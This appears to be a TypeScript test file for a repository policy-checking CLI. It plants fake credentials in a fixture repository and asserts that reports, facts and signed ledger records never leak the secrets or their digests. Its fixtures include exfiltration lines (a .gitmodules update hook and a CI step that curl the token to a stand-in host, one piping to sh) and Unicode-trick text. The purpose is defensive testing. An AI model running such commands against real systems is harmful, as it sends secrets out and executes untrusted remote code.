import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { contentDigest } from "../../rules/capabilities/holder-content.ts";
import { sha256Hex } from "../../rules/canonical.ts";
import { createFixtureRepository, type FixtureRepository } from "../git/fixture-repository.ts";
import { keySamples, random, type Sample } from "../rules/capabilities/secrets/samples.ts";
import { runCli } from "./run-cli.ts";

const TOKEN = `ghp_${random(7, 36)}`;
const PASSWORD = random(8, 14);
const KEY = (keySamples as [Sample])[0].write(1);
const KEY_LINE = KEY.split("\n")[1] ?? "";

/** All that would give a credential away, or let somebody see that a guess at it is right. */
const WITHHELD = [
  ...[TOKEN, PASSWORD, KEY_LINE],
  ...[TOKEN, `bo:${PASSWORD}`, KEY_LINE + (KEY.split("\n")[2] ?? "")].flatMap((value) => [
    contentDigest(value),
    sha256Hex(value),
  ]),
];

/** Readers of other kinds tell what stands beside a credential, or around it. */
const HEAD = {
  "src/deploy.yml": `token: ${TOKEN}\nkey: |\n  ${KEY.replaceAll("\n", "\n  ")}\n`,
  "src/db.ts": `connect("postgres://bo:${PASSWORD}@db.acme.io/x");\n`,
  "src/hidden.ts": `login("${TOKEN}");\u200B // p\u0430ypal "${TOKEN}" \u202E\n`,
  ".gitmodules": `[submodule "a"]\n\tpath = a\n\turl = https://bo:${PASSWORD}@git.acme.io/a\n\tupdate = !curl -d ${TOKEN} https://x.acme.io\n`,
  ".github/workflows/ci.yml": `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "${TOKEN}" https://bo:${PASSWORD}@x.acme.io/${TOKEN} | sh
      - uses: octo/a@${TOKEN}
`,
};

/** Every capability at its most talkative. */
const POLICY = `version: 1
policies:
  - id: all
    decision: WARN
    each: capabilities
    match: { delta: [added, raised] }
    message: "{{item.kind}} {{item.name}} {{item.holder}} {{item.context}} {{item.before}} {{item.after}}"
    remedy: "see {{item.name}} of {{item.holder}}"
`;

let folder: string;
let repository: FixtureRepository;
let range: readonly string[];

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "bailiff-withheld-"));
  await writeFile(join(folder, "policy.yml"), POLICY);
  repository = await createFixtureRepository();
  const base = await repository.commit({ "README.md": "hello\n" });
  await repository.commit(HEAD, { branch: "topic", parents: [base] });
  range = ["--repo", repository.directory, "--base", "main", "--head", "topic"];
});
afterAll(async () => {
  await repository.dispose();
  await rm(folder, { recursive: true, force: true });
});

function given(text: string): string[] {
  return WITHHELD.filter((secret) => text.includes(secret));
}

function check(...options: readonly string[]) {
  return runCli(["check", ...range, "--policy", join(folder, "policy.yml"), ...options]);
}

test.each(["text", "json", "sarif", "github"])(
  "check tells of credentials, and neither them nor their digests: %s",
  async (format) => {
    const { out, said } = await check("--format", format);
    for (const name of ["github token", "private key", "database password"])
      expect(out).toContain(name);
    expect(given(out + said)).toEqual([]);
  },
);

test("facts hold neither credentials nor their digests", async () => {
  const { out } = await runCli(["facts", ...range]);
  expect(out).toContain("text.secret");
  expect(given(out)).toEqual([]);
});

test.each(["text", "json"])("nor does capabilities tell them: %s", async (format) => {
  for (const [path, content] of Object.entries(HEAD)) {
    const args = ["capabilities", "-", "--as", path, "--format", format];
    const { out, said } = await runCli(args, {}, content);
    expect(out).toContain("text.secret");
    expect(given(out + said)).toEqual([]);
  }
});

test("a record holds neither credentials nor their digests", async () => {
  const key = join(folder, "key.pem");
  await runCli(["keys", "generate", "--out", key]);
  const init = ["ledger", "init", "--repo", repository.directory, "--key", key];
  expect((await runCli(init)).status).toBe(0);
  const { status, out } = await check("--record", "--key", key, "--format", "json");
  expect(status).toBe(0);
  expect(out).toContain('"index"');
  const branch = "governance-ledger";
  const paths = (await repository.git("ls-tree", "-r", "--name-only", branch)).split("\n");
  const files = paths.map((path) => repository.git("show", `${branch}:${path}`));
  const recorded = (await Promise.all(files)).map(readable).join("\n");
  expect(recorded).toContain("github token");
  expect(given(recorded)).toEqual([]);
});

/** What a signed envelope carries is base64. */
function readable(text: string): string {
  const pieces = text.match(/[A-Za-z0-9+/]{80,}={0,2}/g) ?? [];
  return [text, ...pieces.map((piece) => Buffer.from(piece, "base64").toString())].join("\n");
}
